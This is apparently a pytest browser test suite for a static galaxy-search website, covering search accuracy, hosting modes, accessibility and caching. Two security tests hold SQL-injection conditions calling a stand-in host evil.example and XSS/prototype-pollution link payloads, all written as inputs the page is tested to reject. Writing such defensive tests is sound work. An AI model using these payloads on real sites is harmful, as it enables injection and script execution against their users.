"""The page of a static site in a real browser: what it finds, on which hosts, and what strangers cannot do to it."""

import base64
import csv
import io
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import quote

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import tiny
from browsing import MARKS, expect
from hostile_app import EVIL
from site_hosts import MODES, hosting
from tiny_spectra import write_models, write_spectra

import galsearch
from galsearch.site import writing

pytestmark = MARKS
ROOT = Path(__file__).parent.parent
WEB = ROOT / "galsearch" / "site" / "web"
BUILT = writing.FRONT_END / "index.html"
ROWS, DIM, K = 20_500, 64, 10
MOST = 24_000_000  # bytes of a file that every host takes
WORDS = ("red edge", "green face", "blue ring", "a red galaxy seen from its edge", "ring, but blue")


def run_npm(*arguments: str) -> subprocess.CompletedProcess:
    """Run npm of the environment's own Node."""
    home = Path(sys.executable).parent
    environment = {**os.environ, "PATH": f"{home}{os.pathsep}{os.environ['PATH']}"}
    return subprocess.run(
        ["npm", "--silent", *arguments], cwd=WEB, env=environment, capture_output=True, text=True, check=False
    )


@pytest.fixture(scope="module", autouse=True)
def built():
    """The page, built once where it is missing or older than its sources."""
    sources = [path for path in WEB.rglob("*") if path.is_file() and not {"node_modules", "test"} & {*path.parts}]
    if BUILT.exists() and BUILT.stat().st_mtime >= max(path.stat().st_mtime for path in sources):
        return
    if not (WEB / "node_modules" / "vite").exists() and run_npm("ci").returncode:
        pytest.skip("browser tests of static sites need the page: run make web, which needs a package registry once")
    made = run_npm("run", "build")
    assert made.returncode == 0, made.stdout + made.stderr


@pytest.fixture(scope="module")
def sites(tmp_path_factory):
    return tmp_path_factory.mktemp("sites")


@pytest.fixture(scope="module")
def tiny_site(built, tiny_bundle, sites):
    return galsearch.write_site(tiny_bundle, sites / "tiny")


@pytest.fixture(scope="module")
def large_atlas(tmp_path_factory):
    """An atlas of 20,500 vectors in clumps, whose table is too large to be read at once."""
    home = tmp_path_factory.mktemp("large")
    noise = base64.b64encode(np.random.default_rng(7).bytes(ROWS * 240)).decode()  # does not pack
    table = tiny.table(ROWS).append_column("note", pa.array([noise[n * 320 : n * 320 + 320] for n in range(ROWS)]))
    vectors = tiny.random_units(ROWS, DIM, seed=3, groups=300)
    table = table.append_column("vector", pa.FixedSizeListArray.from_arrays(pa.array(vectors.ravel()), DIM))
    pq.write_table(table, home / "source.parquet")
    galsearch.build(home / "large.atlas", table=home / "source.parquet", vectors="vector", model="random")
    return home / "large.atlas"


@pytest.fixture(scope="module")
def large_site(built, large_atlas, sites):
    return galsearch.write_site(large_atlas, sites / "large", max_file_mb=3)


@pytest.fixture(scope="module")
def spectra_site(built, sites, tmp_path_factory):
    """A site of spectra alone, with a knowledge base."""
    home = tmp_path_factory.mktemp("spectra")
    kinds = {f"{kind}-{n}": (kind, 0.02 + 0.01 * n) for kind in ("passive", "emission") for n in range(4)}
    files = write_spectra(home / "spectra", kinds)
    galsearch.build(home / "s.atlas", spectra=files, models=write_models(home / "models"))
    select = "SELECT object_id, split_part(object_id, '-', 1) AS kind FROM galaxies"
    galsearch.create_base(home / "s.atlas", "kinds", select)
    return home / "s.atlas", galsearch.write_site(home / "s.atlas", sites / "spectra")


def report(text: str) -> None:
    """Print a figure (pytest -s shows it)."""
    sys.stdout.write(text + "\n")


def link(**said: object) -> str:
    return "#q=" + quote(json.dumps(said), safe="")


def show(page, address: str, **said: object) -> list[str]:
    """Go to what a link says, wait until it is drawn, and return the ids in their order."""
    wanted = link(**said) if said else ""
    if page.url.split("#")[0] != address:
        page.goto(address + wanted)
    else:
        page.evaluate("hash => { location.hash = hash }", wanted)
    page.wait_for_function("hash => document.querySelector('.results')?.dataset.answers === hash", arg=wanted)
    return shown(page)


def shown(page) -> list[str]:
    return page.locator("button.tile").evaluate_all("all => all.map((one) => one.dataset.id)")


def test_the_first_search_needs_little_and_is_quick(tiny_site, new_page):
    with hosting(tiny_site) as host:
        page = new_page(host.address)
        began = time.monotonic()
        page.goto(host.address)
        page.locator(".chip").first.click()
        page.locator(".score").first.wait_for()
        first = time.monotonic() - began
        began = time.monotonic()
        page.locator(".chip").nth(1).click()
        expect(page.locator(".chip").nth(1)).to_have_attribute("aria-pressed", "true")
        page.wait_for_function("() => document.querySelector('.results').dataset.answers === location.hash")
        following = time.monotonic() - began
        report(f"first search {first:.2f} s, next {following:.2f} s, {host.sent / 1e6:.2f} MB")
        assert host.sent < 3e6
        assert not [path for _, path, _ in host.asked if "Wasm" in path or path.endswith(".duckdb")]
        assert {method for method, _, _ in host.asked} == {"GET"}


def test_examples_words_and_conditions_find_what_python_finds(tiny_site, tiny_bundle, new_page):
    with hosting(tiny_site) as host, galsearch.open(tiny_bundle, device="cpu") as atlas:
        page = new_page(host.address)
        agreed = []
        for words in (*WORDS, *json.loads((tiny_site / "site.json").read_text())["chips"]["image"]["phrases"][:5]):
            for where in ("", "mag_r < 17 AND survey IS NOT NULL", "z BETWEEN 0.02 AND 0.1"):
                said = {"terms": [["text", words]], "k": K, **({"where": where} if where else {})}
                found = show(page, host.address, **said)
                expected = atlas.search(words, where=where or None, k=K, exact=True).ids
                agreed.append(len(set(found) & set(expected)) / len(expected))
        report(f"agreement of the top ten over {len(agreed)} queries: {np.mean(agreed):.3f}")
        assert np.mean(agreed) >= 0.95
        expected = atlas.search(atlas.embed("red edge") - 0.5 * atlas.embed("blue ring"), k=5, exact=True).ids
        assert show(page, host.address, terms=[["text", "red edge"], ["text", "blue ring", -0.5]])[:5] == list(expected)


def test_an_image_of_the_visitor_finds_what_python_finds(tiny_site, tiny_bundle, tiny_source, new_page):
    with hosting(tiny_site) as host, galsearch.open(tiny_bundle, device="cpu") as atlas:
        page = new_page(host.address)
        show(page, host.address)
        for path in sorted(tiny_source[0].iterdir())[:3]:
            page.locator("input[type=file]").set_input_files(path)
            expect(page.locator(".status strong")).to_have_text(f"your image {path.name}")
            page.wait_for_function("() => !document.querySelector('.waiting, .tile.empty')")
            expected = atlas.search(path, k=K, exact=True).ids
            assert len(set(shown(page)[:K]) & set(expected)) >= 0.9 * K
        assert not [asked for asked in host.asked if asked[0] != "GET"]


def test_cells_by_range_find_what_python_finds(large_site, large_atlas, new_page):
    with hosting(large_site) as host, galsearch.open(large_atlas) as atlas:
        page = new_page(host.address)
        agreed = []
        for number in range(50):
            row = (number * 397) % ROWS
            where = ("", "mag_r < 15", "z > 0.15 AND mag_r < 14.5")[number % 3]
            said = {"terms": [["object", tiny.object_id(row)]], "k": K, **({"where": where} if where else {})}
            found = show(page, host.address, **said)
            expected = atlas.search(atlas[tiny.object_id(row)], where=where or None, k=K, exact=True).ids
            agreed.append(len(set(found) & set(expected)) / len(expected))
        report(f"agreement of the top ten over {len(agreed)} queries: {np.mean(agreed):.3f}")
        assert np.mean(agreed) >= 0.95
        partial = [path for _, path, asked in host.asked if asked]
        assert any("cards" in path for path in partial) and any("facts" in path for path in partial)


@pytest.mark.parametrize("mode", MODES)
def test_a_site_works_on_every_kind_of_host(large_site, mode, new_page):
    with hosting(large_site, mode) as host:
        page = new_page(host.address)
        alike = show(page, host.address, terms=[["object", tiny.object_id(7)]])
        assert tiny.object_id(7) not in alike and len(alike) == 48
        if mode != "ranges":  # every test with a condition has those
            under = show(page, host.address, terms=[["object", tiny.object_id(7)]], where="mag_r < 14")
            assert under and under != alike
        if mode != "redirects":
            whole = [path for method, path, asked in host.asked if method == "GET" and not asked and "/data/" in path]
            assert len(whole) == len(set(whole)), "a whole file was fetched twice"


def test_every_file_is_small_enough_for_every_host(large_site, tiny_site):
    sizes = [path.stat().st_size for site in (large_site, tiny_site) for path in site.rglob("*") if path.is_file()]
    assert max(sizes) < MOST


@pytest.mark.parametrize("damage", ["truncated", "replaced", "missing", "manifest"])
def test_damaged_data_is_one_clear_message(tiny_site, damage, browser, tmp_path):
    copy = Path(shutil.copytree(tiny_site, tmp_path / "site"))
    file = copy / "site.json" if damage == "manifest" else next((copy / "data").glob("cards-*"))
    content = file.read_bytes()
    if damage == "missing":
        file.unlink()
    else:
        half = content[: len(content) // 2]
        file.write_bytes(bytes(255 - byte for byte in content) if damage == "replaced" else half)
    with hosting(copy) as host:
        page = browser.new_page()
        page.goto(host.address)
        expect(page.locator(".error")).to_have_count(1)
        expect(page.locator(".error")).to_contain_text("Reload the page")
        page.close()


CUTS = {
    "1=1; ATTACH 'https://evil.example/x'": "one condition",
    "1=1) UNION ALL SELECT 1 --": "Comments",
    "z IN (SELECT 1)": "does not belong",
    "read_text('https://evil.example/x') = ''": "not available",
    "nosuch < 1": "nosuch",
    "<img src=x onerror=owned> < 1": "syntax error",
    "'<img src=x onerror=window.owned=1>'::INT < z": "Could not convert",
    "z <": "syntax error",
}


def test_a_hostile_condition_is_explained_and_does_nothing(tiny_site, new_page):
    with hosting(tiny_site) as host:
        page = new_page(host.address)
        before = show(page, host.address, terms=[["text", "red edge"]])
        for text, why in CUTS.items():
            page.locator("#where").fill(text)
            page.locator("#where").press("Enter")
            expect(page.locator("#where-problem")).to_contain_text(why)
            assert shown(page) == before
        assert page.evaluate("window.owned ?? null") is None
        page.locator("#where").fill("mag_r < 16")
        page.locator("#where").press("Enter")
        expect(page.locator("#where-problem")).to_be_empty()


def test_a_condition_that_does_not_end_is_canceled_and_the_page_goes_on(large_site, browser):
    slow = " AND ".join(f"damerau_levenshtein(note || note, reverse(note) || '{n}') > 0" for n in range(40))
    with hosting(large_site) as host:
        page = browser.new_page()  # whose console may tell that what is canceled has failed
        show(page, host.address, where="mag_r < 14")
        page.locator("#where").fill(slow)
        page.locator("#where").press("Enter")
        page.get_by_role("button", name="Cancel").click()
        expect(page.locator("#where-problem")).to_contain_text("Canceled")
        expect(page.locator(".progress")).to_be_hidden()
        began = time.monotonic()
        under = show(page, host.address, where="mag_r < 13.5")
        assert under
        report(f"another condition after a canceled one: {time.monotonic() - began:.2f} s")
        page.close()


LINKS = (
    "#q=%7B",
    "#q=" + "x" * 60_000,
    "#q=" + quote('{"terms": [["text", "<img src=x onerror=window.owned=1>"]]}'),
    "#q=" + quote('{"object": "<script>window.owned=1</script>"}'),
    "#q=" + quote('{"__proto__": {"owned": 1}, "view": "constructor", "near": [1e999, 0, 0]}'),
    "#q=" + quote('{"space": "<b>x</b>", "terms": [["text", "red edge"]]}'),
    "#q=" + quote('{"ranges": {"<img src=x onerror=window.owned=1>": [0, 1]}}'),
    "#javascript:window.owned=1",
)


def test_a_hostile_link_is_told_or_passed_over(tiny_site, new_page):
    with hosting(tiny_site) as host:
        for text in LINKS:
            page = new_page(host.address)
            page.goto(host.address + text)
            page.locator(".chip").first.click()
            page.locator(".score").first.wait_for()
            assert page.evaluate("window.owned ?? null") is None
            assert page.locator("#page script, #page b").count() == 0


MARKUP = """() => ({
    owned: window.owned ?? null,
    scripts: document.querySelectorAll('#page script, dialog script').length,
    images: [...document.querySelectorAll('img')].map((one) => one.src),
    links: [...document.querySelectorAll('a')].map((one) => [one.protocol, one.hostname]),
})"""


def test_texts_of_an_atlas_are_text(built, hostile_path, sites, new_page):
    site = galsearch.write_site(hostile_path, sites / "hostile")
    with hosting(site) as host:
        page = new_page(host.address)
        page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
        page.goto(host.address)
        page.locator(".chip").first.click()
        page.locator("button.tile").first.click()
        page.locator(".panel .voter").first.wait_for()
        for view in ("Table", "Maps", "Gallery"):
            page.get_by_role("button", name=view, exact=True).click()
        page.get_by_role("button", name="About, cite").first.click()
        found = page.evaluate(MARKUP)
        assert found["owned"] is None and found["scripts"] == 0
        assert not [one for one in found["images"] if EVIL in one]
        assert not [one for one in found["links"] if not one[0].startswith("http") or EVIL in one[1]]


def test_a_spectrum_is_drawn_and_its_neighbors_vote_as_in_python(spectra_site, new_page):
    path, site = spectra_site
    with hosting(site) as host, galsearch.open(path, device="cpu") as atlas:
        page = new_page(host.address)
        found = show(page, host.address, terms=[["object", "emission-1"]], object="emission-1")
        assert found[:4] == list(atlas.search(atlas["emission-1"], by="spectrum", k=4, exact=True).ids)
        plot = page.locator(".panel .spectrum")
        assert plot.get_attribute("aria-label").startswith("Spectrum of emission-1 from")
        inked = "canvas => new Set(canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data).size"
        page.wait_for_function(f"() => ({inked})(document.querySelector('.panel .spectrum')) > 20")
        votes = atlas.classify(atlas["emission-1"], "kinds")
        label = page.locator(".panel .part .label").first
        expect(label).to_have_text(votes.label)
        shares = page.locator(".panel .votes").first.inner_text()
        assert f"{votes.label}\n{round(100 * votes.probability)} %" in shares
        voters = page.locator(".panel .voter").evaluate_all("all => all.map((one) => one.title.split(' voted')[0])")
        assert voters == votes.neighbors["object_id"].to_pylist()


def test_a_link_opens_the_same_and_back_goes_back(tiny_site, new_page):
    with hosting(tiny_site) as host:
        page = new_page(host.address)
        page.goto(host.address)
        page.locator(".chip").nth(2).click()
        page.locator(".score").first.wait_for()
        page.locator(".slider input").first.focus()
        for _ in range(40):
            page.keyboard.press("ArrowRight")
        page.wait_for_function("() => location.hash.includes('ranges')")
        page.wait_for_function("() => document.querySelector('.results').dataset.answers === location.hash")
        page.locator("button.tile").nth(3).click()
        page.locator(".panel h2").wait_for()
        ids, name = shown(page), page.locator(".panel h2").inner_text()
        again = new_page(host.address)
        again.goto(page.url)
        expect(again.locator(".panel h2")).to_have_text(name)
        again.locator(".score").first.wait_for()
        assert shown(again) == ids
        page.go_back()
        expect(page.locator(".panel")).to_have_count(0)


def test_hits_are_saved_and_a_cone_leaves_those_within(tiny_site, tiny_bundle, new_page):
    with hosting(tiny_site) as host, galsearch.open(tiny_bundle, device="cpu") as atlas:
        page = new_page(host.address)
        galaxy = next(one for one in atlas if one.columns["ra"] is not None)
        ra, dec = galaxy.columns["ra"], galaxy.columns["dec"]
        found = show(page, host.address, near=[ra, dec, 600], k=960)
        expected = atlas.search(near=(ra, dec), radius_arcsec=600, k=960)
        assert set(found) == set(expected.ids) and 1 < len(found) < len(atlas)
        for name, suffix in (("CSV", "csv"), ("VOTable", "vot"), ("JSON", "json")):
            page.get_by_role("button", name="Save").click()
            with page.expect_download() as waiting:
                page.get_by_role("button", name=f"Hits as {name}").click()
            content = Path(waiting.value.path()).read_bytes()
            if suffix == "csv":
                assert [row["object_id"] for row in csv.DictReader(io.StringIO(content.decode()))] == found
            elif suffix == "json":
                assert [hit["object_id"] for hit in json.loads(content)["hits"]] == found
            else:
                from astropy.io.votable import parse_single_table

                table = parse_single_table(io.BytesIO(content)).to_table(use_names_over_ids=True)
                assert list(table["object_id"]) == found
                assert table["ra"].unit == "deg"


SHOWN = {"Table": ".hits", "Maps": ".map canvas", "Gallery": ".grid"}


@pytest.mark.parametrize(
    ("width", "scheme", "looked_at"), [(360, "dark", "Gallery"), (1280, "light", "Table"), (2000, "dark", "Maps")]
)
def test_the_page_fits_and_axe_finds_nothing(tiny_site, new_page, width, scheme, looked_at):
    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="browser tests need axe")
    with hosting(tiny_site) as host:
        page = new_page(host.address, viewport={"width": width, "height": 900}, color_scheme=scheme)
        terms = [["text", "red edge"], ["text", "blue ring", -0.5]]
        show(page, host.address, terms=terms, ranges={"mag_r": [None, 19]})
        page.locator("button.tile").first.click()
        page.locator(".panel h2").wait_for()
        for view, drawn in SHOWN.items():
            page.get_by_role("button", name=view, exact=True).click()
            page.locator(drawn).first.wait_for()
            assert page.evaluate("document.documentElement.scrollWidth") <= width
            if view == looked_at:
                wrong = axe.Axe().run(page).response["violations"]
                assert [(one["id"], [node["html"][:120] for node in one["nodes"]][:3]) for one in wrong] == []


def test_keys_are_enough(tiny_site, new_page):
    with hosting(tiny_site) as host:
        page = new_page(host.address)
        show(page, host.address)
        page.keyboard.press("/")
        page.keyboard.type("red edge")
        page.keyboard.press("Enter")
        page.locator(".score").first.wait_for()
        page.locator("button.tile").first.focus()
        page.keyboard.press("ArrowRight")
        page.keyboard.press("Enter")
        name = page.locator("button.tile").nth(1).get_attribute("data-id")
        expect(page.locator(".panel h2")).to_have_text(name)
        page.keyboard.press("Escape")
        expect(page.locator(".panel")).to_have_count(0)
        page.locator("button.tile").nth(2).focus()
        third = page.locator("button.tile").nth(2).get_attribute("data-id")
        page.keyboard.press("m")
        expect(page.locator(".term .what")).to_have_text(f"like {third}")


def test_words_are_tokens_as_in_python(tmp_path):
    """Texts of every kind, through the real tokenizer here and through the page's."""
    from tokenizers import Tokenizer

    own = Tokenizer.from_file(str(ROOT / "onnx_models" / "galtext-2" / "tokenizer.json"))
    vocab: list[str | None] = [None] * own.get_vocab_size()
    for piece, number in own.get_vocab().items():
        vocab[number] = piece
    rng = np.random.default_rng(2)
    signs = [*"abcXYZ019 .,-'[]#é\u0301ßİΣςﬁ①½中文\u3000\u200b\u00ad\t\n\x00\ufffd🌌ёЖ°″ "]
    signs += ["[SEP]", "##", "galax", "spiral "]
    texts = ["edge-on disk with a dust lane", "Seyfert 2, z=0.05", "naïve café", "x" * 150, "M87 [CLS] jet", "ΣΊΣΥΦΟΣ"]
    texts += ["".join(rng.choice(signs, rng.integers(1, 60))) for _ in range(400)]
    rules = json.loads((ROOT / "onnx_models" / "galtext-2" / "tokenizer.json").read_text())["normalizer"]
    about = {
        "max_tokens": 64,
        "max_characters": 5000,
        "tokenizer": {
            **{key: rules[key] for key in ("lowercase", "strip_accents", "clean_text", "handle_chinese_chars")},
            "unknown": "[UNK]",
            "prefix": "##",
            "max_characters_per_word": 100,
            "first": [101],
            "last": [102],
            "added_tokens": {token.content: number for number, token in own.get_added_tokens_decoder().items()},
        },
    }
    (tmp_path / "given.json").write_text(json.dumps({"vocab": vocab, "about": about, "texts": texts}))
    script = (
        f"import {{ Tokenizer }} from {json.dumps((WEB / 'src' / 'tokens.ts').as_uri())};"
        "import { readFileSync } from 'node:fs';"
        f"const given = JSON.parse(readFileSync({json.dumps(str(tmp_path / 'given.json'))}, 'utf8'));"
        "const tokenizer = new Tokenizer(given.vocab, given.about);"
        "console.log(JSON.stringify(given.texts.map((text) => tokenizer.encode(text))));"
    )
    node = Path(sys.executable).parent / "node"
    made = subprocess.run([node, "--input-type=module", "-e", script], capture_output=True, text=True, check=True)
    own.enable_truncation(64)
    wrong = [
        (text, encoding.ids, got)
        for text, encoding, got in zip(texts, own.encode_batch(texts), json.loads(made.stdout), strict=True)
        if encoding.ids != got
    ]
    assert not wrong, wrong[:3]


def test_what_is_large_is_kept_for_the_next_visit(tiny_site, new_page):
    with hosting(tiny_site) as host:
        page = new_page(host.address)
        words = {"terms": [["text", WORDS[3]]], "where": "mag_r < 17"}
        first = show(page, host.address, **words)
        page.wait_for_function(
            "async () => (await Promise.all((await caches.keys()).map(async (name) =>"
            " (await (await caches.open(name)).keys()).length))).reduce((a, b) => a + b, 0) >= 5"
        )
        host.asked.clear()
        page.reload()
        page.wait_for_function("() => document.querySelector('.results')?.dataset.answers === location.hash")
        assert shown(page) == first
        again = [path for _, path, _ in host.asked if any(name in path for name in ("Wasm", "Worker", "text-model"))]
        assert again == []
